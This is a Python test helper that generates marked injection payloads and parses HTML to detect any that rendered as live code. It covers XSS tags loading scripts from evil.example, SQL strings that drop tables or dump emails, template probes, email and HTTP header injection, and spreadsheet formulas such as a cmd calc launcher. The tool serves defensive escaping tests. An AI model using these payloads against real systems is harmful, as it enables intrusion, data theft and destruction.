"""What somebody types who wants a page, a mail, a spreadsheet, a log or a header to do something: 320 payloads.

Each holds its own mark (`zq17`), by which it is found again wherever it comes out.
"""

from html.parser import HTMLParser

_XSS = (
    "<script>{0}()</script>", "<img src=x onerror={0}()>", '"><svg onload={0}()>', "'><b onmouseover={0}()>", "<{0}>",
    "</textarea><script src=//evil.example/{0}></script>", "javascript:{0}()", "<a href=javascript:{0}()>x</a>",
    "<iframe srcdoc='<script>{0}()</script>'>", "--><style>@import url(//evil.example/{0})</style>", "<math><{0}>",
    '" autofocus onfocus={0}() x="', "' onclick={0}() '", "<form action=//evil.example/{0}><button>", "</title><{0}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{0}>", "<base href=//evil.example/{0}>", "<!--{0}",
    "]]><{0}>",
    "&lt;script&gt;{0}&lt;/script&gt;", "\\u003cscript\\u003e{0}", "<scr\x00ipt>{0}</scr\x00ipt>", "<object data={0}>",
    "\"'`><{0}>", "<link rel=stylesheet href=//evil.example/{0}>",
)  # fmt: skip
_TEMPLATE = (
    "{{{{1337*1331}}}}{0}", "${{1337*1331}}{0}", "#{{1337*1331}}{0}", "<%= 1337*1331 %>{0}",
    "{{% if 1 %}}{0}{{% endif %}}",
    "{{{{config}}}}{0}", "{{{{''.__class__.__mro__}}}}{0}", "%({0})s", "{{0}}{0}", "%s%n{0}",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE questions;-- {0}", "' OR '1'='1 {0}", "1); DELETE FROM letters;-- {0}", "\\'; SELECT 1;-- {0}",
    '" OR ""="{0}',
    "{0}' UNION SELECT email FROM people--", "%_{0}", "{0}*", "NEAR({0}", "{0}\" OR \"",
)  # fmt: skip
_LINES = (
    "{0}\r\nBcc: evil@evil.example", "{0}\nSet-Cookie: a={0}", "{0}\r\n\r\n<script>",
    "{0}%0d%0aLocation: //evil.example",
    "{0}\u2028at=2026 level=info event=request who=sessie:1", "{0}\nat=2026-01-01 level=info who=sessie:1",
    "{0}\r.\r\nQUIT\r\n",
    "{0}\x85X-Evil: 1", "{0}\x0bX-Evil: 1", "{0}=?utf-8?q?=0d=0aBcc:_evil?=",
)  # fmt: skip
_FORMULAS = (
    "=1337*1331 {0}", "+1337*1331 {0}", "-1337*1331 {0}", "@SUM(1) {0}", "=HYPERLINK(\"//evil.example/{0}\")",
    "\t=1+1 {0}",
    "\r=1+1 {0}", "=cmd|' /C calc'!{0}", "＝1+1 {0}", " =1+1 {0}",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each with a mark of its own, in an order in which the kinds take turns."""
    kinds = [(_XSS, 100), (_TEMPLATE, 50), (_SQL, 50), (_LINES, 60), (_FORMULAS, 60)]
    turns = [(number / many, kind[number % len(kind)]) for kind, many in kinds for number in range(many)]
    return [text.format(f"zq{number}") for number, (_, text) in enumerate(sorted(turns, key=lambda turn: turn[0]))]


def leads_away(address: str) -> bool:
    """Whether an address leads to where no page of ours does. What stands in a query is for whoever reads it there."""
    return "evil.example" in address.partition("?")[0] or address.strip().lower().startswith(("javascript:", "data:"))


class _Alive(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag in {"script", "style"}
        given = dict(attrs)
        names = [name for name in given if name.startswith("on") or name == "srcdoc" or "zq" in name]
        leads = [
            value or ""
            for name, value in attrs
            if name in {"href", "src", "action", "formaction", "data", "content", "style"} and leads_away(value or "")
        ]
        if "zq" in tag or names or leads or (self._script and "src" not in given):
            self.found.append(f"<{tag} {attrs}>")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002  # HTMLParser's
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and "zq" in data:
            self.found.append(data)

    def handle_comment(self, data: str) -> None:
        if "zq" in data:
            self.found.append(f"<!--{data}-->")


def alive_in(html: str) -> list[str]:
    """What a payload became in a page: elements, handlers, addresses and scripts that nobody of ours wrote."""
    reader = _Alive()
    reader.feed(html)
    return reader.found
